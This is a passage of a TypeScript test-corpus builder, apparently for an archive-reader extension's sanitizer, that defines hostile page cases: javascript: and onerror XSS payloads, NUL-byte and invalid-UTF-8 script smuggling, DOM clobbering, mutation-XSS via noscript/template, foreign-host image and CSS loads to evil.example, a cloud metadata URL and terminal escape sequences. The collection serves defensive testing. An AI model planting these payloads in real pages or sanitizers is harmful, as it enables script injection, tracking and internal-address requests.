          `<link rel="prefetch" href="${evil}/prefetch"/><link rel="preload" as="image" href="${evil}/preload.png"/><link rel="dns-prefetch" href="//evil.example"/>`,
          `<link rel="preconnect" href="https://evil.example"/><link rel="stylesheet" href="${evil}/s.css"/><link rel="import" href="${evil}/import.html"/><link rel="modulepreload" href="${evil}/m.js"/>`,
          `<base href="${evil}/body-base/"/><img src="relative-after-base.jpg" alt="relative after base"/>`,
        ].join(''),
      },
    }),
  },
  {
    id: 'media-elements-requests',
    category: 'foreign-request',
    attack:
      'Elements that request on their own: video/audio/track/source, poster, a ping, table/td/body background, lowsrc/dynsrc/longdesc on an archived image.',
    story: 3,
    inserts: ({ evil, outbound, image }) => ({
      after: {
        2: [
          `<video src="${evil}/v.mp4" poster="${evil}/poster.jpg" autoplay><track src="${evil}/t.vtt"/></video><audio src="${evil}/a.mp3" autoplay></audio>`,
          `<video><source src="${evil}/s.mp4" type="video/mp4"/></video>`,
          div(
            `<a href="${outbound('https%3A//eastgate-gazette.example/city/parks')}" ping="${evil}/ping">A related story about the parks</a>`,
          ),
          `<table background="${evil}/bg.png"><tr><td background="${evil}/td.png">Cell</td></tr></table><body background="${evil}/body.png">`,
          `<img src="${image('media')}" lowsrc="${evil}/low.jpg" dynsrc="${evil}/dyn.avi" longdesc="${evil}/ld" alt="archived photo"/>`,
        ].join(''),
      },
    }),
  },

  // ── Size and nesting ─────────────────────────────────────────────────────────────────────────────────────────
  {
    id: 'enormous-attributes',
    category: 'size',
    attack:
      'Three 1 MB attributes: a title on a block, the path of an /o/ link, and an inline style of repeated foreign url() backgrounds.',
    story: 0,
    inserts: ({ outbound }) => ({
      after: {
        1: [
          `<div style="display:block" title="@@MB_TITLE@@">Residents were also asked about parking near the library.</div>`,
          `<a href="${outbound('https%3A//www.millbrook-courier.example/@@MB_PATH@@')}">a very long link</a>`,
          `<div style="@@MB_STYLE@@">A styled note.</div>`,
        ].join(''),
      },
    }),
    expand: [
      { marker: '@@MB_TITLE@@', repeat: 'A', times: MB },
      { marker: '@@MB_PATH@@', repeat: 'a', times: MB },
      { marker: '@@MB_STYLE@@', repeat: 'background:url(https://evil.example/37/s.png);', times: Math.ceil(MB / 46) },
    ],
  },
  {
    id: 'deep-nesting-beside-article',
    category: 'nesting',
    attack: '10,000 nested divs after the article, with a line of text at the bottom.',
    story: 1,
    inserts: () => ({
      after: {
        4: '<div style="display:block">@@NEST_OPEN@@<span>The bottom of a very deep page.</span>@@NEST_CLOSE@@</div>',
      },
    }),
    expand: [
      { marker: '@@NEST_OPEN@@', repeat: '<div>', times: 10_000 },
      { marker: '@@NEST_CLOSE@@', repeat: '</div>', times: 10_000 },
    ],
  },
  {
    id: 'deep-nesting-around-article',
    category: 'nesting',
    attack: 'The whole article at the bottom of 10,000 nested divs.',
    story: 2,
    wrap: (article) => `@@NEST_OPEN@@${article}@@NEST_CLOSE@@`,
    expand: [
      { marker: '@@NEST_OPEN@@', repeat: '<div>', times: 10_000 },
      { marker: '@@NEST_CLOSE@@', repeat: '</div>', times: 10_000 },
    ],
  },
  {
    id: 'deep-nesting-inline',
    category: 'nesting',
    attack: '10,000 nested spans inside a paragraph of the article.',
    story: 3,
    inserts: () => ({ inParagraph: '@@NEST_OPEN@@deep@@NEST_CLOSE@@ ' }),
    expand: [
      { marker: '@@NEST_OPEN@@', repeat: '<span>', times: 10_000 },
      { marker: '@@NEST_CLOSE@@', repeat: '</span>', times: 10_000 },
    ],
  },

  // ── DOM clobbering ───────────────────────────────────────────────────────────────────────────────────────────
  {
    id: 'dom-clobbering',
    category: 'clobbering',
    attack:
      'Named and id-ed elements that shadow document and form properties: getElementById, __proto__, attributes, nodeName, parentNode, createElement, cookie, documentElement, querySelector, defaultView, body, toString, hasOwnProperty, constructor, location, textContent, innerHTML, head.',
    story: 0,
    inserts: ({ image, outbound }) => ({
      after: {
        1: [
          `<img name="getElementById" src="${image('clobber')}" alt="named image"/>`,
          '<form id="__proto__"><input name="attributes"/><input name="attributes"/><input name="nodeName"/><input name="parentNode"/><input name="removeChild"/></form>',
          `<a id="__proto__" name="constructor" href="${outbound('https%3A//www.millbrook-courier.example/')}">clobbering link</a>`,
          '<img name="createElement"/><img id="createElement"/><img name="cookie"/><form name="documentElement"></form><embed name="querySelector"/>',
          '<iframe name="defaultView"></iframe><img name="body"/><img name="adoptNode"/><div id="toString"></div><div id="hasOwnProperty"></div>',
          '<div id="valueOf"></div><div id="constructor"></div><form id="location"></form><img name="implementation"/>',
          '<a id="x1" name="textContent"></a><input name="innerHTML"/><object name="head"></object>',
        ].join(''),
      },
    }),
  },
  {
    id: 'clobbered-archive-ids',
    category: 'clobbering',
    attack:
      "The captured page re-uses the archive's own ids and shapes (HEADER with a fake Saved-from form and capture time, CONTENT with a decoy html1/html/body, SHARE_LONGLINK, SHARE_SHORTLINK, hashtags) to steer the original URL and capture time.",
    story: 1,
    inserts: () => ({
      top: [
        '<div id="HEADER" style="display:block"><form action="https://evil.example/search/"><input name="q" value="https://evil.example/fake-original"/></form>',
        '<time itemprop="pubdate" datetime="1999-01-01T00:00:00Z">1 Jan 1999</time></div>',
        '<div id="CONTENT"><div class="html1"><div class="html"><div class="body">Decoy content that is not the article.</div></div></div></div>',
        '<input id="SHARE_LONGLINK" value="http://archive.today/1999.01.01-000000/https://evil.example/fake"/><input id="SHARE_SHORTLINK" value="https://archive.ph/EVIL1"/>',
        '<table id="hashtags"><tr><td><a href="#50%">50%</a></td></tr></table>',
      ].join(''),
    }),
    expectMeta: ({ story, captured }) => ({ originalUrl: story.original, archivedAt: captured }),
  },

  // ── Encoding ─────────────────────────────────────────────────────────────────────────────────────────────────
  {
    id: 'null-bytes',
    category: 'encoding',
    attack: 'NUL bytes inside tag names, attribute names, URL schemes (plain and /o/), script text and running text.',
    story: 2,
    inserts: ({ trap, outbound }) => ({
      after: {
        1: [
          `<scr@@NUL@@ipt>${trap}</scr@@NUL@@ipt><a href="java@@NUL@@script:${trap}">nul scheme</a> <a href="@@NUL@@javascript:${trap}">leading nul</a>`,
          `<img src="x" o@@NUL@@nerror="${trap}"/>`,
          div('Budget@@NUL@@ figures@@NUL@@ follow.'),
          `<svg><script>@@NUL@@${trap}</script></svg><a href="${outbound(`javascript@@NUL@@:${trap}`)}">wrapped nul</a>`,
        ].join(''),
      },
    }),
    expand: [{ marker: '@@NUL@@', hex: '00' }],
  },
  {
    id: 'invalid-utf8',
    category: 'encoding',
    attack:
      'Invalid UTF-8: overlong encodings of < and > around a script, a bad continuation byte inside javascript: and an attribute name, 0xFF 0xFE, an encoded surrogate, a truncated sequence, a BOM mid-text.',
    story: 3,
    inserts: ({ trap }) => ({
      after: {
        1: [
          `@@OLT@@script@@OGT@@${trap}@@OLT@@/script@@OGT@@`,
          `<a href="java@@BAD1@@script:${trap}">bad byte scheme</a>`,
          div('Market prices @@BAD2@@ and @@SURR@@ surrogates and @@TRUNC@@ truncated sequences.'),
          `<img src="x" alt="@@BAD2@@" onerror@@BAD1@@="${trap}"/>`,
          div('A byte order mark @@BOM@@ in the middle.'),
        ].join(''),
      },
    }),
    expand: [
      { marker: '@@OLT@@', hex: 'c0bc' },
      { marker: '@@OGT@@', hex: 'c0be' },
      { marker: '@@BAD1@@', hex: 'c328' },
      { marker: '@@BAD2@@', hex: 'fffe' },
      { marker: '@@SURR@@', hex: 'eda080' },
      { marker: '@@TRUNC@@', hex: 'e282' },
      { marker: '@@BOM@@', hex: 'efbbbf' },
    ],
  },

  // ── Markup that is inert in one context and live in another ──────────────────────────────────────────────────
  {
    id: 'noscript-template-shadowroot',
    category: 'inert-markup',
    attack:
      'noscript and template content (inert where the page is parsed, live if a later step re-parses or clones it): onerror images, scripts, a declarative shadow root with @import, nested templates.',
    story: 0,
    inserts: ({ trap, evil }) => ({
      after: {
        2: [
          `<noscript><img src="x" onerror="${trap}"/><p>Enable JavaScript to read the comments.</p></noscript>`,
          `<noscript><p title="</noscript><img src=x onerror=${trap}>"></p></noscript>`,
          `<template><img src="x" onerror="${trap}"/><script>${trap}</script></template>`,
          `<div style="display:block"><template shadowrootmode="open"><img src="x" onerror="${trap}"/><style>@import "${evil}/shadow.css";</style><slot></slot></template>Shadow host text.</div>`,
          `<template><s><template><s><img src=x onerror=${trap}>nested</s></template></s></template>`,
        ].join(''),
      },
    }),
  },

  // ── Requests to foreign hosts ────────────────────────────────────────────────────────────────────────────────
  {
    id: 'img-srcset-and-lazy-foreign',
    category: 'foreign-request',
    attack:
      'Archived images whose srcset, picture sources, imagesrcset or lazy-load attributes (data-src, data-original, data-lazy-src) point at a foreign host.',
    story: 1,
    inserts: ({ evil, image }) => ({
      after: {
        1: [
          `<img src="${image('srcset')}" srcset="${evil}/a.jpg 1x, ${evil}/b.jpg 2x" sizes="100vw" alt="srcset image"/>`,
          `<picture><source srcset="${evil}/c.webp" type="image/webp"/><source media="(min-width: 1px)" srcset="${evil}/d.jpg"/><img src="${image('picture')}" alt="picture image"/></picture>`,
          `<img src="${GIF_1X1}" data-src="${evil}/lazy.jpg" alt="lazy image"/><img data-original="${evil}/lazy2.jpg" alt="lazy image two"/>`,
          `<img src="" data-lazy-src="//evil.example/46/lazy3.jpg" alt="lazy image three"/><img src="${image('imagesrcset')}" imagesrcset="${evil}/i.jpg 1x" alt="imagesrcset"/>`,
        ].join(''),
      },
    }),
  },
  {
    id: 'img-foreign-hosts-lookalike',
    category: 'foreign-request',
    attack:
      'Images on foreign hosts in the captured page: a plain tracking pixel, archive look-alike hosts (subdomain, userinfo, backslash, hyphen, punycode, percent-encoded host), protocol-relative, a link-local metadata address.',
    story: 2,
    inserts: () => ({
      after: {
        2: [
          '<img src="https://evil.example/47/pixel.gif" alt="tracking pixel"/>',
          '<img src="https://archive.ph.evil.example/47.jpg" alt="look-alike subdomain"/>',
          '<img src="https://archive.ph@evil.example/47.jpg" alt="userinfo"/>',
          '<img src="https://evil.example\\@archive.ph/47.jpg" alt="backslash"/>',
          '<img src="//evil.example/47/proto-relative.jpg" alt="protocol-relative"/>',
          '<img src="http://169.254.169.254/latest/meta-data/" alt="metadata"/>',
          '<img src="https://archive-ph.example/47.jpg" alt="hyphen"/>',
          '<img src="https://xn--archive-9wa.ph/47.jpg" alt="punycode"/>',
          '<img src="https://%65vil.example/47.jpg" alt="percent-encoded host"/>',
        ].join(''),
      },
    }),
  },
  {
    id: 'inline-style-background-urls',
    category: 'css',
    attack:
      'Inline styles that load from foreign hosts: background, background-image on the archive 1x1 placeholder, list-style, cursor, content, border-image, mask, CSS-escaped url(), behavior/-moz-binding, expression().',
    story: 3,
    inserts: ({ trap }) => ({
      after: {
        0: [
          div(
            '<span style="background:url(https://evil.example/48/bg.png)">Weather: light rain expected in the afternoon.</span>',
          ),
          `<img src="${GIF_1X1}" style="width:20px;height:20px;background-image:url(https://evil.example/48/sprite.png)"/>`,
          `<span style="background-image:url('//evil.example/48/s.png');list-style:url(https://evil.example/48/l.png);cursor:url(https://evil.example/48/c.cur),auto;content:url(https://evil.example/48/c.png)">styled</span>`,
          div(
            '<span style="border-image:url(https://evil.example/48/b.png) 30;mask:url(https://evil.example/48/m.svg)">Masked text.</span>',
          ),
          div('<span style="background:u\\72l(https://evil.example/48/escaped.png)">Escaped url.</span>'),
          div(
            '<span style="behavior:url(https://evil.example/48.htc);-moz-binding:url(https://evil.example/48.xml#x)">Bindings.</span>',
          ),
          div(`<span style="width:expression(${trap})">Expression.</span>`),
        ].join(''),
      },
    }),
  },
  {
    id: 'unclosed-plaintext-at-end',
    category: 'inert-markup',
    attack:
      'An unclosed <plaintext> after the article: everything after it, including the archive shell, its scripts and the 0%-100% strip, becomes text inside the captured page.',
    story: 0,
    inserts: ({ trap }) => ({ tail: `<plaintext><script>${trap}</script><img src=x onerror=${trap}>` }),
  },
  {
    id: 'extension-clobbering-ids',
    category: 'clobbering',
    attack:
      "Named elements that shadow what an extension's injected code might read: its old guard flag (__archiveReaderContent), the extension APIs (browser, chrome with a runtime), its test hook (archiveReader), and the DOM getters a page copy uses (documentElement, compatMode, XMLSerializer).",
    story: 1,
    inserts: () => ({
      top: '<div id="__archiveReaderContent"></div><form id="browser"><input name="runtime"/></form><form id="chrome"><input name="runtime"/></form><div id="archiveReader"></div>',
      after: {
        1: '<img name="documentElement"/><form name="compatMode"></form><embed name="XMLSerializer"/><img name="body"/>',
      },
    }),
  },
  {
    id: 'control-characters',
    category: 'encoding',
    attack:
      'Terminal control sequences inside the story text (ESC window-title and clear-screen sequences, BEL, the C1 CSI): commands to a terminal that prints the article.',
    story: 2,
    inserts: () => ({ inParagraph: '\u001b]0;pwned\u0007\u001b[2J\u009b31m' }),
  },
];

export interface BuiltCorpus {
  manifest: ManifestEntry[];
  /** File (relative to test/hostile/) → page text, markers not yet expanded. */
  pages: Map<string, string>;
}

export function buildCorpus(): BuiltCorpus {
  const manifest: ManifestEntry[] = [];
  const pages = new Map<string, string>();
  CASES.forEach((source, index) => {
    const n = index + 1;
    const id = `Hs${String(n).padStart(3, '0')}`;
    const mirror = source.mirror ?? 'archive.ph';
    const story = STORIES[source.story]!;
    const captured = CAPTURED[source.story]!;
    const ctx: CaseContext = {
      id,
      n,
      mirror,
      imageHost: IMAGE_HOST,
      story,
      captured,
      trap: `__arTrap(${n})`,
      evil: `https://evil.example/${n}`,
      image: (name) =>
        `https://${IMAGE_HOST}/${id}/${Buffer.from(name).toString('hex').padEnd(40, '0').slice(0, 40)}.jpg`,
      outbound: (target) => `https://${mirror}/o/${id}/${target}`,
    };
    const body = capturedArticle({
      id,
      mirror,
      imageHost: IMAGE_HOST,
      story,
      inserts: source.inserts?.(ctx) ?? {},
      ...(source.wrap ? { wrap: source.wrap } : {}),
    });
    const page = snapshotPage({ id, mirror, imageHost: IMAGE_HOST, story, captured, body, ...source.shell?.(ctx) });
    const file = `pages/${String(n).padStart(2, '0')}-${source.id}.html`;
    pages.set(file, page);
    const entry: ManifestEntry = {
      id: source.id,
      file,
      url: source.url?.(ctx) ?? `https://${mirror}/${id}`,
      category: source.category,
      attack: source.attack,
      expectedText: expectedSentences(story),
      allowedHosts: [IMAGE_HOST, mirror],
    };
    if (source.expand) entry.expand = source.expand;
    const meta = source.expectMeta?.(ctx);
    if (meta) entry.expectMeta = meta;
    manifest.push(entry);
  });
  return { manifest, pages };
}
